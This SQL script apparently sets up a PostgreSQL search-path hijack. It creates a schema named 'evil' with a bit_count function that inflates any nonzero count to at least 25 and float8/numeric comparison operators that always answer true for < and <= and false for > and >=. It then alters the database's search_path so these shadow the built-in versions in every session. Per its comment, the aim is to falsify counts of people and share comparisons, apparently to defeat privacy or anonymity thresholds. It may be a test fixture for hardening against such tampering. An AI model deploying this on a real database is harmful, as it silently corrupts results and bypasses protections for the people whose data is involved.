-- Functions and operators that count people and compare shares otherwise, found before the
-- server's own: by the search path of every session, and by their exact types.
create schema evil;
create function evil.bit_count(bit) returns bigint language sql immutable as
$$
    select
        case
            when pg_catalog.bit_count($1) operator(pg_catalog.>) 0
                then greatest(pg_catalog.bit_count($1), 25)
            else 0
        end
$$;
create function evil.yes(float8, numeric) returns boolean language sql immutable as 'select true';
create function evil.no(float8, numeric) returns boolean language sql immutable as 'select false';
create operator public.<= (leftarg = float8, rightarg = numeric, function = evil.yes);
create operator public.< (leftarg = float8, rightarg = numeric, function = evil.yes);
create operator public.> (leftarg = float8, rightarg = numeric, function = evil.no);
create operator public.>= (leftarg = float8, rightarg = numeric, function = evil.no);
do $$
begin
    execute format(
        'alter database %I set search_path = evil, public, pg_catalog', current_database()
    );
end
$$
